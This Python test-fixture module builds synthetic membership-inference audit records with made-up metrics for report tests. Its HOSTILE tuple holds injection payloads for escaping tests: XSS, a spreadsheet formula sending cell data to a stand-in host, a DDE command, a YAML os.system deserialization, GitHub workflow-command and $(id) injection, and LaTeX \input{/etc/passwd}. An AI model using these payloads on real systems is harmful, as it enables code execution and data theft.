"""Audits made by hand as `evaluate` would make them: the numbers fit together, so that a report of them can be read."""

import math
from collections.abc import Sequence
from dataclasses import replace
from typing import Any, Literal

from mi_audit.schema.audit import (
    AccuracyRow,
    AttackRow,
    Audit,
    ClassAverageRow,
    ConfidenceRow,
    FeatureRow,
    LimitCheck,
    MeanSd,
    Samples,
    Subset,
    SweepRow,
)
from mi_audit.schema.estimate import Estimate
from mi_audit.schema.finding import Finding
from mi_audit.schema.trained_attacks import TrainedAttack

Z_95 = 1.959963984540054

# Text that would do harm in a terminal, in rich, in Markdown, in HTML, in a spreadsheet, or to the reader's eye.
HOSTILE = (
    "\x1b[2J\x1b[31mred\x1b[0m",
    "[bold red]markup[/] [link=file:///etc/passwd]x[/link]",
    "a|b`c`*d*_e_ <script>alert(1)</script> [x](javascript:alert(1)) ![i](http://h/x)",
    '=HYPERLINK("http://h/?"&A1,"x")',
    '+1+cmd|"/c calc"!A0',
    "-2+3",
    "@SUM(1)",
    "two\nlines\r\nand\ttab",
    "right\u202eto left\u2066\u200b",
    "nul\x00 bell\x07 c1\x9b31m \ud800 \u2028 \x7f",
    'quote " and , comma; ',
    "]]><!-- & &amp; &#0; --></testcase><failure/> \ufffe\U0001ffff",
    "\\input{/etc/passwd} $x^2$ 100% #1 ~ \\end{tabular} \\\\[9cm] & {",
    "%0A::error title=x,file=/etc/passwd::y",
    "::set-output name=x::y ${{ github.token }} $(id)",
    "!!python/object/apply:os.system ['id']",
    "--- # : ? *anchor &anchor",
    "💥 e\u0301 ﷽",
    "深層学習の猫" * 6,
    "x" * 300,
    "",
)


def wilson(successes: float, n: int) -> Estimate:
    if n == 0:
        return Estimate.undefined("0 samples")
    share, z2 = successes / n, Z_95**2
    centre, denominator = share + z2 / (2 * n), 1 + z2 / n
    half = Z_95 * math.sqrt(share * (1 - share) / n + z2 / (4 * n * n))
    low, high = (centre - half) / denominator, (centre + half) / denominator
    return Estimate(share, max(0.0, low), min(1.0, high))


def rates(
    n_members: int, n_non_members: int, recall: float, far: float, auc: float | None = None
) -> dict[str, Estimate]:
    """All metrics of an attack with this recall and FAR; undefined where a side is empty."""
    missing = "0 members" if not n_members else "0 non-members" if not n_non_members else None
    tp, fp = recall * n_members, far * n_non_members
    fn, tn = n_members - tp, n_non_members - fp
    out = {
        "recall.member": wilson(tp, n_members) if n_members else Estimate.undefined("0 members"),
        "false_alarm_rate": wilson(fp, n_non_members) if n_non_members else Estimate.undefined("0 non-members"),
        "recall.non_member": wilson(tn, n_non_members) if n_non_members else Estimate.undefined("0 non-members"),
    }
    if missing:
        names = (
            "accuracy balanced_accuracy false_discovery_rate advantage precision.member precision.non_member f1.member "
        )
        names += "f1.non_member auc tpr_at_fpr.0.01 tpr_at_fpr.0.001"
        return out | dict.fromkeys(names.split(), Estimate.undefined(missing))
    balanced = (recall + 1 - far) / 2
    half = Z_95 * math.sqrt(recall * (1 - recall) / n_members + far * (1 - far) / n_non_members) / 2
    flagged_none = "no sample is called a member"
    flagged_rest = "no sample is called a non-member"
    out |= {
        "accuracy": wilson(tp + tn, n_members + n_non_members),
        "balanced_accuracy": Estimate(balanced, max(0.0, balanced - half), min(1.0, balanced + half)),
        "advantage": Estimate(recall - far, recall - far - 2 * half, recall - far + 2 * half),
        "precision.member": Estimate(tp / (tp + fp)) if tp + fp else Estimate.undefined(flagged_none),
        "false_discovery_rate": Estimate(fp / (tp + fp)) if tp + fp else Estimate.undefined(flagged_none),
        "precision.non_member": Estimate(tn / (tn + fn)) if tn + fn else Estimate.undefined(flagged_rest),
        "f1.member": Estimate(2 * tp / (2 * tp + fp + fn)),
        "f1.non_member": Estimate(2 * tn / (2 * tn + fp + fn)) if tn + fn else Estimate.undefined(flagged_rest),
    }
    if auc is not None:
        out["auc"] = Estimate(auc, auc - half, min(1.0, auc + half))
        out["tpr_at_fpr.0.01"] = Estimate(0.03 * 2 * auc, 0.02, 0.08)
        unknown = Estimate(None, 0.0, 0.05, f"needs 3,700 non-members, there are {n_non_members:,}")
        out["tpr_at_fpr.0.001"] = Estimate(0.004 * 2 * auc, 0.001, 0.013) if n_non_members >= 3_700 else unknown
    return out


def attack_row(
    attack: str,
    sizes: tuple[int, int],
    recall: float,
    far: float,
    auc: float | None = None,
    *,
    naive: tuple[float, float] = (0.999, 0.7263),
    subset: Subset = "all",
    samples: Samples = "held-out",
    image_class: int | None = None,
) -> AttackRow:
    def baseline(rule: tuple[float, float]) -> dict[str, Estimate]:
        kept = ("balanced_accuracy", "false_alarm_rate", "recall.member", "precision.member", "auc")
        auc = (1 + rule[0] - rule[1]) / 2
        return {name: value for name, value in rates(*sizes, *rule, auc).items() if name in kept}

    return AttackRow(
        attack=attack,
        samples=samples,
        subset=subset,
        image_class=image_class,
        n_members=sizes[0],
        n_non_members=sizes[1],
        metrics=rates(*sizes, recall, far, auc),
        naive=baseline(naive),
        zero_r=baseline((1.0, 1.0)),
    )


def trained(label: str, *, per_class: bool = False, n_skipped: int = 0) -> TrainedAttack:
    name, _, argument = label.partition(":")
    return TrainedAttack(
        label=label,
        name=name,
        options={"signal": argument} if argument else {"depth": 6, "rate": 0.1},
        view="confidences" if per_class else "summary",
        threshold=0.5,
        is_fixed=label == "naive",
        per_class=per_class,
        n_classes_skipped=n_skipped,
        balanced_accuracy=0.69,
        auc=0.75,
        n_draws=20,
    )


# label: (recall, FAR, AUC) on all held-out samples
ATTACKS = {
    "xgboost": (0.8080, 0.4102, 0.7512),
    "random-forest": (0.7925, 0.4066, 0.7448),
    "logistic-regression": (0.8330, 0.4689, 0.7305),
    "mlp": (0.8011, 0.4198, 0.7421),
    "threshold:modified-entropy": (0.8475, 0.4931, 0.7122),
    "threshold:loss": (0.8402, 0.4899, 0.7101),
}
FULL, HELD_OUT = (50_000, 10_000), (25_000, 5_000)
SUBSETS: dict[Subset, tuple[tuple[int, int], tuple[float, float]]] = {
    "correct": ((24_975, 3_631), (1.0, 1.0)),
    "misclassified": ((25, 1_369), (0.0, 0.0)),
}
PROVENANCE: dict[str, Any] = {
    "features": {
        "target": {
            "source": "cifar100_resnet56.pt",
            "spec": "somewhere/cifar100_resnet56.pt",
            "weights_digest": "3f2a9c017be45d18a6c0e9b2f4d7718c55a0e3b96f12cd8e7a4b90d1c2f3e4a5",
            "architecture": "cifar_resnet56",
            "preprocessing": {
                "mean": [0.507, 0.4865, 0.4409],
                "std": [0.2673, 0.2564, 0.2761],
                "size": None,
                "source": "known constants of cifar100",
            },
            "notes": ["prefix module. removed"],
        },
        "dataset": {
            "name": "cifar100",
            "spec": "cifar100",
            "n_members": 50_000,
            "n_non_members": 10_000,
            "digest": "81d2b0c4a7e95f36218b04dd93c7aa1e6f50b2c8d4197e3a5b6c7d8e9f0a1b2c",
        },
        "seed": 0,
        "options": {"batch_size": "auto"},
        "versions": {"mi-audit": "0.1.0", "numpy": "2.4.0", "torch": "2.15.0"},
    },
    "attacks": {
        "options": {"known_fraction": 0.5, "seed": 7},
        "versions": {"mi-audit": "0.1.0", "xgboost": "3.2.0"},
    },
    "evaluate": {"options": {"ratios": ["5:1", "1:1", "1:5"]}, "versions": {"mi-audit": "0.1.0"}},
}


def accuracy_row(samples: Samples, sizes: tuple[int, int], member: float, non_member: float) -> AccuracyRow:
    sides = wilson(member * sizes[0], sizes[0]), wilson(non_member * sizes[1], sizes[1])
    return AccuracyRow(samples, *sizes, *sides, Estimate(member - non_member))


def sweep(
    attack: str, recall: float, far: float, ratios: Sequence[tuple[int, int]] = ((5, 1), (1, 1), (1, 5))
) -> list[SweepRow]:
    rows = []
    for members, non_members in ratios:
        prior = members / (members + non_members)
        exact = {
            "precision.member": Estimate(prior * recall / (prior * recall + (1 - prior) * far)),
            "recall.member": Estimate(recall),
            "recall.non_member": Estimate(1 - far),
            "balanced_accuracy": Estimate((recall + 1 - far) / 2),
            "false_alarm_rate": Estimate(far),
        }
        rest = prior * (1 - recall) + (1 - prior) * (1 - far)
        undefined = Estimate.undefined("no sample is called a non-member")
        exact["precision.non_member"] = Estimate((1 - prior) * (1 - far) / rest) if rest else undefined
        drawn = {"precision.member", "precision.non_member", "balanced_accuracy", "false_alarm_rate"}
        resampled = {name: MeanSd(min(1.0, (exact[name].value or 0) + 0.0008), 0.0052, 200) for name in drawn}
        unit = min(25_000 // members, 5_000 // non_members)
        is_zero_r = attack == "zero-r"
        rows.append(
            SweepRow(
                attack=attack,
                ratio=f"{members}:{non_members}",
                prior=prior,
                exact=exact,
                resampled={} if is_zero_r else resampled,
                n_members=0 if is_zero_r else unit * members,
                n_non_members=0 if is_zero_r else unit * non_members,
            )
        )
    return rows


def full_sweep(selected: str = "xgboost", recall: float = 0.8080, far: float = 0.4102) -> tuple[SweepRow, ...]:
    rows = [*sweep(selected, recall, far), *sweep("naive", 0.9990, 0.7263), *sweep("zero-r", 1.0, 1.0)]
    order = {"5:1": 0, "1:1": 1, "1:5": 2}
    return tuple(sorted(rows, key=lambda row: order[row.ratio]))


def normal() -> Audit:
    """What the main job looks like: CIFAR-100, ResNet-56."""
    rows = [attack_row(label, HELD_OUT, *numbers) for label, numbers in ATTACKS.items()]
    rows += [
        attack_row("naive", HELD_OUT, 0.9990, 0.7262, 0.6364),
        attack_row("naive", FULL, 0.9990, 0.7263, 0.6364, samples="full"),
    ]
    for subset, (sizes, naive) in SUBSETS.items():
        rule = (0.8087, 0.5621, 0.6633) if subset == "correct" else (0.2, 0.0073, 0.6804)
        rows.append(attack_row("xgboost", sizes, *rule, naive=naive, subset=subset))
        constant = Estimate(0.5, 0.5, 0.5)
        naive_row = attack_row("naive", sizes, 1.0, 1.0, 0.5, naive=naive, subset=subset)
        balanced = {"balanced_accuracy": constant, "false_alarm_rate": wilson(naive[1] * sizes[1], sizes[1])}
        rows.append(replace(naive_row, metrics=naive_row.metrics | balanced))
    return Audit(
        title="cifar_resnet56 on cifar100",
        protocol="audit",
        attacks=(*(trained(label) for label in ATTACKS), trained("naive")),
        selected="xgboost",
        accuracy=(
            accuracy_row("full", FULL, 0.9990, 0.7263),
            accuracy_row("audited", FULL, 0.9990, 0.7263),
            accuracy_row("held-out", HELD_OUT, 0.9990, 0.7262),
        ),
        confidence=(
            ConfidenceRow("all", MeanSd(0.9945, 0.0231, 50_000), MeanSd(0.6991, 0.3762, 10_000)),
            ConfidenceRow("correct", MeanSd(0.9949, 0.0198, 49_950), MeanSd(0.8998, 0.1612, 7_263)),
            ConfidenceRow("misclassified", MeanSd(0.3121, 0.1604, 50), MeanSd(0.1668, 0.1530, 2_737)),
        ),
        rows=tuple(rows),
        class_averages=(),
        sweep=full_sweep(),
        limits=(),
        findings=(Finding("few-misclassified-members", "note", "Only 50 of 50,000 members are misclassified."),),
        class_names=tuple(f"class {i}" for i in range(100)),
        provenance=PROVENANCE,
    )


def undefined() -> Audit:
    """No number of any attack can be estimated: one side is empty."""
    audit = normal()
    rows = tuple(attack_row(row.attack, (0, 50), 0.5, 0.5, 0.5, subset=row.subset) for row in audit.rows)
    accuracy = AccuracyRow(
        "full", 0, 50, Estimate.undefined("0 members"), wilson(40, 50), Estimate.undefined("0 members")
    )
    confidence = (ConfidenceRow("all", None, MeanSd(0.6, 0.2, 50)),)
    return replace(audit, rows=rows, accuracy=(accuracy,), confidence=confidence, sweep=(), provenance={})


def empty_subset() -> Audit:
    """Not one member is misclassified."""
    audit = normal()
    sizes = {"correct": (25_000, 4_773), "misclassified": (0, 227)}
    rows = [
        attack_row(row.attack, sizes[row.subset], 0.8, 0.4, 0.7, subset=row.subset) if row.subset != "all" else row
        for row in audit.rows
    ]
    confidence = (*audit.confidence[:2], ConfidenceRow("misclassified", None, MeanSd(0.17, 0.15, 227)))
    return replace(audit, rows=tuple(rows), confidence=confidence)


def per_class(n_classes: int = 100) -> Audit:
    """Rows per class, two of them not estimable."""
    audit = normal()
    rows = []
    for i in range(n_classes):
        sizes = (250, 50) if i >= 2 else (250, 0)
        rows.append(attack_row("xgboost", sizes, 0.7 + 0.25 * math.sin(i) ** 2, 0.4, 0.7, image_class=i))
    values = [row.metrics["balanced_accuracy"].value for row in rows]
    known = [value for value in values if value is not None]
    mean = sum(known) / len(known)
    sd = math.sqrt(sum((value - mean) ** 2 for value in known) / len(known))
    average = ClassAverageRow(
        "xgboost", "all", {"balanced_accuracy": MeanSd(mean, sd, len(known))}, {"balanced_accuracy": 2}
    )
    return replace(audit, rows=(*audit.rows, *rows), class_averages=(average,))


def _average(attack: str, subset: Subset, numbers: dict[str, tuple[float, float]], n: int = 100) -> ClassAverageRow:
    metrics = {name: MeanSd(mean, sd, n) for name, (mean, sd) in numbers.items()}
    return ClassAverageRow(attack, subset, metrics, {name: 100 - n for name in numbers if n < 100})


def paper() -> Audit:
    """The founding paper's protocol, with the numbers that it prints for its CIFAR-100 ResNet."""
    audit = normal()
    table_1 = {
        "accuracy": (0.7913, 0.0512),
        "precision.member": (0.8730, 0.0301),
        "recall.member": (0.8785, 0.0604),
        "f1.member": (0.8745, 0.0402),
        "balanced_accuracy": (0.6170, 0.0655),
        "false_alarm_rate": (0.6445, 0.1481),
    }
    averages = (
        _average("mlp", "all", table_1),
        _average("mlp", "correct", {"balanced_accuracy": (0.5396, 0.0525), "false_alarm_rate": (0.8370, 0.1101)}),
        _average(
            "mlp", "misclassified", {"balanced_accuracy": (0.5437, 0.16), "false_alarm_rate": (0.0266, 0.0808)}, 83
        ),
        _average("naive", "all", {"balanced_accuracy": (0.6568, 0.0412), "false_alarm_rate": (0.7414, 0.09)}),
    )
    held_out = (10_000, 2_000)
    labels = ("naive", "random-forest", "mlp")
    rows = [attack_row(label, held_out, 0.8785, 0.6445, 0.66) for label in labels[1:]]
    rows += [attack_row("naive", held_out, 0.9580, 0.7414, 0.6083)]
    rows += [
        attack_row("mlp", (9_580, 1_483), 0.85, 0.6, 0.6, subset="correct"),
        attack_row("mlp", (420, 517), 0.85, 0.6, 0.6, subset="misclassified"),
    ]
    return replace(
        audit,
        title="resnet164 on cifar100",
        protocol="paper",
        attacks=tuple(
            trained(label, per_class=label != "naive", n_skipped=3 if label == "mlp" else 0) for label in labels
        ),
        selected="mlp",
        rows=tuple(rows),
        accuracy=(
            accuracy_row("full", FULL, 0.9580, 0.7414),
            accuracy_row("held-out", held_out, 0.9580, 0.7414),
        ),
        confidence=(
            ConfidenceRow("all", MeanSd(0.9114, 0.1844, 50_000), MeanSd(0.7019, 0.3810, 10_000)),
            ConfidenceRow("correct", MeanSd(0.9415, 0.1143, 47_900), MeanSd(0.9088, 0.1574, 7_414)),
            ConfidenceRow("misclassified", MeanSd(0.5782, 0.1769, 2_100), MeanSd(0.6430, 0.2171, 2_586)),
        ),
        class_averages=averages,
        sweep=full_sweep("mlp", 0.8785, 0.6445),
    )


def hostile() -> Audit:
    """Names from strangers, in every place that takes one."""
    audit = normal()
    labels = HOSTILE[:-1]
    rows = [attack_row(label, HELD_OUT, 0.8, 0.4, 0.7) for label in labels]
    rows += [attack_row(labels[0], (100, 50), 0.8, 0.4, 0.7, image_class=i) for i in range(len(HOSTILE))]
    target = {"name": labels[0], "source": labels[1], "weights_digest": labels[2], "notes": list(labels)}
    dataset = {"name": labels[3], "spec": labels[7], "digest": labels[8]}
    versions = {labels[9]: labels[4]}
    swept = [replace(row, attack=labels[0], ratio=labels[5]) for row in audit.sweep if row.attack == "xgboost"]
    return replace(
        audit,
        title=" ".join(HOSTILE),
        attacks=tuple(trained(label) for label in labels),
        selected=labels[0],
        rows=tuple(rows),
        class_names=HOSTILE,
        sweep=tuple(swept),
        limits=(LimitCheck(labels[2], labels[1], "all", "auc", 0.6, Estimate.undefined(labels[0]), "not estimable"),),
        findings=tuple(Finding("hostile", "warning", label) for label in labels),
        provenance={
            "features": {
                "target": target,
                "dataset": dataset,
                "versions": versions,
                "options": dict.fromkeys(labels, 1),
            }
        },
    )


def many_attacks() -> Audit:
    audit = normal()
    labels = [f"threshold:signal-number-{i}" for i in range(40)]
    rows = [attack_row(label, HELD_OUT, 0.8, 0.45 + i / 200, 0.7) for i, label in enumerate(labels)]
    return replace(audit, attacks=(*audit.attacks, *map(trained, labels)), rows=(*audit.rows, *rows))


def duplicates() -> Audit:
    """Samples that are on both sides left the audit."""
    audit = normal()
    audited = accuracy_row("audited", (49_961, 9_961), 0.9990, 0.7253)
    message = "39 images are both members and non-members; they left the audit."
    findings = (
        Finding("batch-size", "note", "Out of memory at 4,096 samples a batch; extracted with 2,048."),
        Finding("exact-duplicates", "warning", message),
    )
    naive = attack_row("naive", (49_961, 9_961), 0.9990, 0.7253, 0.6368, samples="audited")
    accuracy = (audit.accuracy[0], audited, audit.accuracy[2])
    return replace(audit, accuracy=accuracy, findings=findings, rows=(*audit.rows, naive))


def limited() -> Audit:
    """Several limits: one exceeded, one within, one that cannot be checked."""
    audit = normal()
    metrics = audit.row("xgboost").metrics
    unknown = Estimate(None, 0.0, 0.05, "needs 3,700 non-members, there are 1,000")
    checks = (
        LimitCheck(
            "balanced_accuracy=0.6",
            "xgboost",
            "all",
            "balanced_accuracy",
            0.6,
            metrics["balanced_accuracy"],
            "exceeded",
        ),
        LimitCheck("auc=0.8", "xgboost", "all", "auc", 0.8, metrics["auc"], "within"),
        LimitCheck("tpr_at_fpr.0.001=0.01", "xgboost", "all", "tpr_at_fpr.0.001", 0.01, unknown, "not estimable"),
    )
    return replace(audit, limits=checks)


def bare() -> Audit:
    """Nothing but what a record cannot be without."""
    empty: dict[str, Any] = dict.fromkeys(("accuracy", "confidence", "rows", "sweep", "findings", "class_names"), ())
    return replace(normal(), title="", provenance={}, **empty)


FEATURES = ("layer:-1", "boundary-distance", "gradient-norm:w")


def feature_rows() -> tuple[FeatureRow, ...]:
    rows = []
    for subset, n in (("all", 100), ("correct", 80), ("misclassified", 20)):
        near, far = MeanSd(0.8123, 0.10211, n), MeanSd(1.2e-8, 3.1e-7, n)
        rows += [
            FeatureRow("layer:-1", None, subset, None, None, 0, 0),
            FeatureRow("boundary-distance", "distance", subset, near, MeanSd(0.7, 0.2, n - 3), 0, 3),
            FeatureRow("gradient-norm:w", "l1", subset, far, near, 0, 0),
            FeatureRow("gradient-norm:w", "l2", subset, far, None, 0, n),
        ]
    return tuple(rows)


def on_features(protocol: Literal["audit", "paper"] = "audit") -> Audit:
    """Attacks on outputs, on three features and on everything."""
    audit = normal() if protocol == "audit" else paper()
    attacks, rows, averages = list(audit.attacks), list(audit.rows), list(audit.class_averages)
    for name in (*FEATURES, "all"):
        is_apart = protocol == "paper" and name != "all"
        for base, known in (("logistic-regression", 0.6), ("mlp", 0.55)):
            attack = trained(f"{base} on {name}")
            looks = ("outputs", *FEATURES) if name == "all" else (name,)
            attacks.append(
                replace(attack, name=base, on=looks, per_subset=is_apart, per_class=is_apart, balanced_accuracy=known)
            )
            for subset, sizes in (("all", HELD_OUT), ("correct", (20_000, 4_000)), ("misclassified", (0, 1_000))):
                rows.append(attack_row(attack.label, sizes, known, 0.45, 0.6, subset=subset))
                mean = MeanSd(known, 0.07, 100 if subset != "misclassified" else 83)
                metrics = dict.fromkeys(("balanced_accuracy", "false_alarm_rate", "recall.member"), mean)
                naive = {"balanced_accuracy": MeanSd(0.5, 0.0, 100)}
                averages.append(ClassAverageRow(attack.label, subset, metrics, {"balanced_accuracy": 17}, naive))
    return replace(
        audit,
        attacks=tuple(attacks),
        rows=tuple(rows),
        class_averages=tuple(averages) if protocol == "paper" else (),
        features=feature_rows(),
    )


def paper_on_features() -> Audit:
    """The same under the founding paper's protocol."""
    return on_features("paper")


def near_guessing() -> Audit:
    """An attack whose interval holds 50 %."""
    audit = normal()
    rows = tuple(
        attack_row(row.attack, (300, 300), 0.51, 0.49, 0.51, naive=(0.9, 0.89))
        for row in audit.rows
        if row.subset == "all"
    )
    return replace(audit, rows=rows)


ALL = {
    made.__name__: made
    for made in (
        normal,
        undefined,
        empty_subset,
        per_class,
        paper,
        hostile,
        many_attacks,
        duplicates,
        limited,
        bare,
        near_guessing,
        on_features,
        paper_on_features,
    )
}
